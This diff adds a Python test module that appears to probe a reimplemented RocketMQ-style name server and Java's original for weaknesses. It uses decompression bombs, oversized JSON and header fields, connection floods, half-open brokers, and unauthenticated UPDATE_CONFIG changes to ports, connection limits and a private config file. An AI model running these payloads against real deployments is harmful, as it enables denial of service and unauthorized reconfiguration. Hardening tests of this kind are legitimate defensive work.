@@ -1,0 +1,302 @@
+"""Attacks on a NameServer: requests that it and Java's both understand, from peers without identity."""
+
+import contextlib
+import json
+import stat
+import subprocess
+import sys
+import time
+import zlib
+from collections import Counter
+from collections.abc import Callable
+from pathlib import Path
+
+from attacked import ABUSE, SECRET, Attack, Result, Target, attempt, frames, in_words, nothing, requests
+from hostile import IDENTITY, filled, inflated
+from peers.processes import free_port
+from peers.scripted import Line, ScriptedBroker, queues_in, registration_body, route_query
+from peers.wire import (
+    GET_UNIT_SUB_ORDINARY_TOPICS,
+    GET_UNIT_SUB_TOPICS,
+    GET_UNIT_TOPICS,
+    PUT_KV_CONFIG,
+    REGISTER_BROKER,
+    SUCCESS,
+    UPDATE_CONFIG,
+)
+
+MIB = 1024 * 1024
+REGISTER_TOPIC, QUERY_DATA_VERSION = 217, 322
+VICTIM = "victim"
+#: A first registration with one topic alone is refused.
+TOPICS = {VICTIM: 4, "another": 4}
+#: A broker that has not left the routes by then stays.
+GONE_S = 90
+CONNECTIONS, CONNECTIONS_MAX = 4_000, 2_000
+IDLE_S = 4
+COMPRESSED = IDENTITY | {"compressed": "true"}
+
+
+def registration(broker_id: str, address: str, **fields: str) -> dict[str, str]:
+    """Return the header of a registration of the set that is attacked."""
+    own = {"clusterName": "C", "brokerName": VICTIM, "brokerId": broker_id, "brokerAddr": address}
+    return own | {"haServerAddr": "", "enableActingMaster": "true"} | fields
+
+
+def notification(target: Target, unprintable: str) -> Result:
+    """Have the server tell itself a text that no header can carry."""
+    told = [target.ask(UPDATE_CONFIG, {}, b"notifyMinBrokerIdChanged=true")]
+    with contextlib.closing(target.line(binary=True)) as line:
+        told.append(in_words(line.ask(REGISTER_BROKER, registration("5", f"127.0.0.1:{target.port}"))))
+        liar = registration("3", "127.0.0.1:2", haServerAddr=unprintable)
+        told.append(target.ask(REGISTER_BROKER, liar, binary=True))
+        time.sleep(1)
+    return Result(", ".join(told))
+
+
+def mappings() -> bytes:
+    """Return 1.2 million static topic mappings, compressed."""
+    return zlib.compress(zlib.decompress(inflated([], [b'{"topic":"a"}'] * 1_200_000)), 9)
+
+
+def json_mappings() -> bytes:
+    """Return 600,000 static topic mappings as JSON."""
+    start = b'{"filterServerList":[],"topicConfigSerializeWrapper":{"topicQueueMappingInfoMap":{'
+    return start + b",".join(b'"%d":{}' % number for number in range(600_000)) + b"}}}"
+
+
+def sixteen_mb() -> bytes:
+    """Return a compressed registration that has to be inflated whole."""
+    return zlib.compress(zlib.decompress(inflated([], [], b" " * (16 * MIB - 100))), 9)
+
+
+def at_once(target: Target, made: list[bytes]) -> Result:
+    """Send it over 200 connections, then read all answers."""
+    lines = [target.line() for _ in range(200)]
+    for line in lines:
+        line.socket.sendall(made[0])
+    answers = Counter(attempt(lambda own=line: own.receive()[1]) for line in lines)
+    for line in lines:
+        line.close()
+    return Result(", ".join(f"{count} x {answer}" for answer, count in answers.items()))
+
+
+def a_broker(target: Target) -> ScriptedBroker:
+    """Return the broker that is attacked, not yet registered, on a connection of its own."""
+    return ScriptedBroker(target.line(), VICTIM, address="10.9.9.8:10911")
+
+
+def gone_after(target: Target, broker: ScriptedBroker) -> str:
+    """Kill the broker, and return how long its route lives on."""
+    with contextlib.closing(target.line()) as client:
+        assert queues_in(client.ask(*route_query(VICTIM))), "it is in its route"
+        began = time.monotonic()
+        broker.close()
+        while time.monotonic() < began + GONE_S:
+            if not queues_in(client.ask(*route_query(VICTIM))):
+                return f"left its route after {time.monotonic() - began:.2f} s"
+            time.sleep(0.02)
+    return f"**in its route for {GONE_S} s**"
+
+
+def half_open(silent_s: float) -> Callable[[Target, object], Result]:
+    """Return the death of a broker, a connection of whose former process has been silent for so long."""
+
+    def act(target: Target, _made: object) -> Result:
+        with contextlib.closing(a_broker(target)) as former:
+            former.register(TOPICS, counter=1)
+            time.sleep(silent_s)
+            latter = a_broker(target)
+            latter.register(TOPICS, counter=2)
+            return Result("0", gone_after(target, latter))
+
+    return act
+
+
+def flood(target: Target, _made: object) -> Result:
+    """Kill a broker while ten connections send long compressed registrations, one after the other."""
+    broker = a_broker(target)
+    broker.register(TOPICS)
+    command = [sys.executable, str(ABUSE / "flood.py"), str(target.port), "10"]
+    with subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True) as process:
+        assert process.stdout is not None, "it was asked for"
+        process.stdout.readline()
+        time.sleep(1)
+        try:
+            gone = gone_after(target, broker)
+        finally:
+            figures = json.loads(process.communicate()[0])
+    return Result(f"{figures['answered']} registrations", gone)
+
+
+def name_server_settings(target: Target, changes: list[str]) -> Result:
+    """Change what nobody should, and start it again."""
+    answers = ", ".join(target.ask(UPDATE_CONFIG, {}, each.encode()).split()[0] for each in changes)
+
+    def restarted() -> str:
+        target.server.process.stop()
+        target.server.start()
+        try:
+            with contextlib.closing(target.line()) as line:
+                line.socket.settimeout(IDLE_S)
+                closed = attempt(lambda: line.receive()[1]) == "closed"
+        except OSError:
+            return "after a restart **nobody listens at its port**"
+        silent = "**is closed**" if closed else "stays open"
+        return f"after a restart a connection that is silent for {IDLE_S} s {silent}"
+
+    return Result(answers, restarted)
+
+
+def private_file(target: Target) -> Path:
+    """Return the configuration file with a comment, which nobody else may read."""
+    file = target.server.folder / "namesrv.properties"
+    file.write_text(file.read_text() + "# of the operator\n")
+    file.chmod(0o600)
+    target.server.process.stop()
+    target.server.start()
+    return file
+
+
+def written(target: Target, file: Path) -> Result:
+    """Have the configuration file written, and look at what it became."""
+    lines = len(file.read_text().splitlines())
+    answers = [target.ask(UPDATE_CONFIG, {}, each) for each in (b"enableTopicList=true", b"enableTopicList=false")]
+    found = file.read_text()
+    mode = stat.S_IMODE(file.stat().st_mode)
+    secret = "**holds a secret of the environment**" if SECRET in found else "no secret"
+    comment = "kept" if "# of the operator" in found else "lost"
+    state = f"mode {mode:04o}, {len(found.splitlines())} lines for {lines}, comment {comment}, {secret}"
+    return Result(", ".join(answers), state)
+
+
+def stored_in_a_mount(target: Target, _made: object) -> Result:
+    """Put a KV entry, whose file is a mount of its own."""
+    answer = target.ask(PUT_KV_CONFIG, {"namespace": "NS", "key": "k", "value": "of the attack"})
+    outside = target.server.folder.parent / "outside.json"
+    return Result(answer, "stored" if "of the attack" in outside.read_text() else "**not stored**")
+
+
+def long_fields(target: Target, made: ScriptedBroker) -> Result:
+    """Register strangers as slaves of a set, with 4 MB each, and look at the route that its clients get."""
+    text = "x" * (4 * MIB)
+    route = made.line
+
+    def size() -> str:
+        return f"{len(route.ask(*route_query(VICTIM)).body):,}"
+
+    sizes, answers = [size()], []
+    filters = json.dumps({"filterServerList": [text], "topicConfigSerializeWrapper": {}}).encode()
+    for number, (fields, body) in enumerate(
+        [({"haServerAddr": text}, b""), ({"__ZONE_NAME": text}, b""), ({}, filters)], 1
+    ):
+        with contextlib.closing(target.line(binary=True)) as stranger:
+            identity = registration(str(number), f"10.6.6.{number}:10911", **fields)
+            answers.append(attempt(lambda o=stranger, i=identity, b=body: o.ask(REGISTER_BROKER, i, b)))
+            sizes.append(size())
+    return Result(", ".join(answers), f"route in bytes: {' -> '.join(sizes)}")
+
+
+def registered_broker(target: Target) -> ScriptedBroker:
+    """Return the broker that is attacked, registered."""
+    broker = a_broker(target)
+    broker.register(TOPICS)
+    return broker
+
+
+def connections(target: Target, _made: object) -> Result:
+    """Hold silent connections, and let a broker come back."""
+    lines: list[Line] = []
+    with contextlib.suppress(OSError):
+        lines.extend(target.line(host=f"127.0.0.{2 + number % 8}") for number in range(CONNECTIONS))
+    began = time.monotonic()
+    answer = target.ask(REGISTER_BROKER, registration("0", "10.9.9.8:10911"), registration_body(TOPICS, 1))
+    took_ms = 1000 * (time.monotonic() - began)
+    for line in lines:
+        line.close()
+    return Result(f"{len(lines):,} connected", f"the returning broker: {answer} after {took_ms:.0f} ms")
+
+
+def unit_topics(target: Target) -> Line:
+    """Register 5,000 topics on 60 sets, and return the connection, with which they would go."""
+    topics = dict.fromkeys((f"unit-topic-{number:05}" for number in range(5_000)), 4)
+    body = registration_body(topics, 1).replace(b'"topicSysFlag":0', b'"topicSysFlag":3')
+    line = target.line()
+    for number in range(60):
+        identity = registration("0", f"10.7.0.{number}:10911", brokerName=f"set-{number}")
+        assert line.ask(REGISTER_BROKER, identity, body).code == SUCCESS, number
+    return line
+
+
+def unit_lists(target: Target, _registered: Line) -> Result:
+    """Ask for the three lists of unit topics."""
+    told = []
+    for code in (GET_UNIT_TOPICS, GET_UNIT_SUB_TOPICS, GET_UNIT_SUB_ORDINARY_TOPICS):
+        began = time.monotonic()
+        told.append(f"{target.ask(code, {})} after {1000 * (time.monotonic() - began):.0f} ms")
+    return Result(", ".join(told))
+
+
+ATTACKS = [
+    Attack("nothing, for 3 s: NameServer", nothing),
+    Attack(
+        "318 `notifyMinBrokerIdChanged=true`; 103 of id 5 at the server's own address; 103 of id 3 with 3 MB "
+        "of `\\x01` as haServerAddr",
+        notification,
+        lambda _: "\x01" * (3 * MIB),
+    ),
+    Attack(
+        "103, 28 KB: zlib of 1.2 million static topic mappings", requests, frames(REGISTER_BROKER, COMPRESSED, mappings)
+    ),
+    Attack("103: JSON of 600,000 static topic mappings", requests, frames(REGISTER_BROKER, IDENTITY, json_mappings)),
+    Attack(
+        "322: 8 MB of commas; then 8 MB of a list of `{}`",
+        requests,
+        frames(
+            QUERY_DATA_VERSION,
+            IDENTITY,
+            lambda: filled(b"{", b",", b"}", 8 * MIB),
+            lambda: filled(b"[", b"{},", b"{}]", 8 * MIB),
+        ),
+    ),
+    Attack(
+        "217: 320,000 queueDatas",
+        requests,
+        frames(
+            REGISTER_TOPIC, IDENTITY, lambda: b'{"queueDatas":[' + b",".join([b'{"brokerName":"x"}'] * 320_000) + b"]}"
+        ),
+    ),
+    Attack(
+        "103 over 200 connections at once, 16 KB each: zlib of 16 MB of blanks",
+        at_once,
+        frames(REGISTER_BROKER, COMPRESSED, sixteen_mb),
+    ),
+    Attack("a broker dies, an older connection of its former process is half open, silent for 46 s", half_open(46)),
+    Attack("the same, silent for 10 s, a third of a registration period", half_open(10)),
+    Attack("ten connections that send 0.5 MB of compressed registrations again and again; a broker dies", flood),
+    Attack(
+        "318: namesrvAddrList; connectionsMax=1; serverChannelMaxIdleTimeSeconds=1",
+        name_server_settings,
+        lambda _: ["namesrvAddrList=10.6.6.6:9876", "connectionsMax=1", "serverChannelMaxIdleTimeSeconds=1"],
+    ),
+    Attack("318: another listenPort", name_server_settings, lambda _: [f"listenPort={free_port()}"]),
+    Attack("318 that changes nothing, then one that does, of a file of mode 0600", written, private_file),
+    Attack("100 while the KV file is a mount of its own", stored_in_a_mount, mounted=True),
+    Attack(
+        "103 of strangers as slaves of a set: 4 MB haServerAddr; 4 MB zone name; a 4 MB filter server",
+        long_fields,
+        registered_broker,
+    ),
+    Attack(
+        f"{CONNECTIONS:,} silent connections (ours with connectionsMax={CONNECTIONS_MAX:,}, Java has no limit); a "
+        "broker comes back",
+        connections,
+        properties={"connectionsMax": CONNECTIONS_MAX},
+    ),
+    Attack(
+        "103 with a brokerId of 5,000 zeros and a one",
+        requests,
+        frames(REGISTER_BROKER, registration("0" * 5_000 + "1", "10.6.6.6:10911"), lambda: b""),
+    ),
+    Attack("311, 312, 313 with 5,000 unit topics on 60 sets", unit_lists, unit_topics),
+]
